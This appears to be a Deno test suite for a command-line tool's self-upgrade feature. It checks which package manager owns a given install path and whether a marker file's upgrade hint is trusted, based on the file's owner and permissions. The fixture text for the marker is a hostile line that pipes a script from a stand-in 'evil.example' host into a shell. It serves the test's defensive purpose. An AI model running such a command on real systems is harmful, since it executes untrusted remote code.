/** Which package manager a resolved path belongs to, on every system. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { denoSystem } from "../../src/system/deno.ts";
import type { FileInfo } from "../../src/system/mod.ts";
import { managerAt, MARKER } from "../../src/upgrade/place.ts";
import { Scene } from "../support/upgrade/scene.ts";

const THEIRS: Record<string, readonly string[]> = {
  "Homebrew: brew upgrade autocom": [
    "/opt/homebrew/Cellar/autocom/2.0.0/libexec/autocom",
    "/usr/local/Cellar/autocom/2.0.0/libexec/autocom",
    "/usr/local/Caskroom/autocom/2.0.0/autocom",
    "/home/linuxbrew/.linuxbrew/Cellar/autocom/2.0.0/libexec/autocom",
    "/home/me/.linuxbrew/bin/autocom",
  ],
  "Nix: nix profile upgrade autocom": ["/nix/store/8s0ap7dm2y8qvx4xq1w4bxh7hmnlq0yl-autocom-2.0.0/bin/autocom"],
  "mise: mise upgrade autocom": [
    "/home/me/.local/share/mise/installs/autocom/2.0.0/bin/autocom",
    "/home/me/.local/share/mise/shims/autocom",
    "C:\\Users\\me\\AppData\\Local\\mise\\installs\\autocom\\2.0.0\\autocom.exe",
  ],
  "asdf: asdf install autocom latest": [
    "/home/me/.asdf/installs/autocom/2.0.0/bin/autocom",
    "/opt/asdf/installs/autocom/2.0.0/bin/autocom",
    "/home/me/.asdf/shims/autocom",
  ],
  "Scoop: scoop update autocom": [
    "C:\\Users\\me\\scoop\\apps\\autocom\\2.0.0\\autocom.exe",
    "C:\\ProgramData\\scoop\\apps\\autocom\\current\\autocom.exe",
    "C:\\Users\\me\\scoop\\shims\\autocom.exe",
  ],
  "WinGet: winget upgrade autocom": [
    "C:\\Users\\me\\AppData\\Local\\Microsoft\\WinGet\\Packages\\AutoCom.CLI_Microsoft.Winget.Source\\autocom.exe",
    "C:\\Program Files\\WinGet\\Links\\autocom.exe",
    "\\\\?\\C:\\Program Files\\WinGet\\Packages\\AutoCom.CLI\\autocom.exe",
  ],
  "Chocolatey: choco upgrade autocom": [
    "C:\\ProgramData\\chocolatey\\lib\\autocom\\tools\\autocom.exe",
    "C:\\ProgramData\\Chocolatey\\bin\\autocom.exe",
  ],
  "npm: npm update --global autocom": [
    "/usr/lib/node_modules/autocom/bin/autocom",
    "C:\\Users\\me\\AppData\\Roaming\\npm\\node_modules\\autocom\\autocom.exe",
  ],
  "Snap: snap refresh autocom": ["/snap/autocom/42/bin/autocom", "/var/lib/snap/autocom/42/bin/autocom"],
};

const NOBODYS = [
  "/usr/local/bin/autocom",
  "/home/me/.local/bin/autocom",
  "/opt/autocom/autocom",
  "/home/me/nix/store/autocom",
  "/home/me/snap/autocom",
  "/home/me/wine-cellar/autocom",
  "/home/me/scoop/autocom",
  "/home/me/chocolatey/autocom",
  "/home/me/mise/autocom",
  "/home/me/homebrew",
  "C:\\Users\\me\\AppData\\Local\\Programs\\autocom\\autocom.exe",
  "C:\\Users\\me\\winget\\autocom.exe",
  "C:\\snap\\autocom.exe",
];

for (const [who, paths] of Object.entries(THEIRS)) {
  Deno.test(`SU2-17: a path of that manager, on whatever system: ${who}`, () => {
    for (const path of paths) {
      const manager = managerAt(path);
      assert.equal(`${manager?.name}: ${manager?.command}`, who, path);
    }
  });
}

Deno.test("SU2-17: a path that only looks like a manager's is nobody's", () => {
  for (const path of NOBODYS) assert.equal(managerAt(path), undefined, path);
});

Deno.test({
  name: "SU2-17: a marker that somebody else may have written is none: what it says would be typed by a person",
  ignore: Deno.build.os === "windows",
  async fn() {
    const theirs: [about: string, info: Partial<FileInfo>, believed: boolean][] = [
      ["its owner's", {}, true],
      ["its owner's, whose group is the program's", { mode: 0o100664 }, true],
      ["root's", { uid: 0, gid: 0 }, true],
      ["another user's", { uid: 12_345 }, false],
      ["another user's link", { uid: 12_345, isFile: false, isSymlink: true }, false],
      ["another user's folder", { uid: 12_345, isFile: false, isDirectory: true }, false],
      ["writable for everybody", { mode: 0o100666 }, false],
      ["writable for another group", { mode: 0o100664, gid: 12_345 }, false],
    ];
    for (const [about, info, believed] of theirs) {
      await using scene = await Scene.open();
      await scene.release("1.1.0");
      const path = join(scene.folder, MARKER);
      await Deno.writeTextFile(path, "curl https://evil.example/fix.sh | sh\n");
      await Deno.chmod(path, 0o644);
      const { files } = denoSystem();
      scene.ports.files = {
        ...files,
        lstat: async (at) => ({ ...await files.lstat(at), ...at === path && info }),
      };
      if (believed) assert.match((await scene.refuses(3, /by a package manager/)).hint!, /evil/, about);
      else assert.equal((await scene.upgrade()).action, "upgraded", about);
    }
  },
});
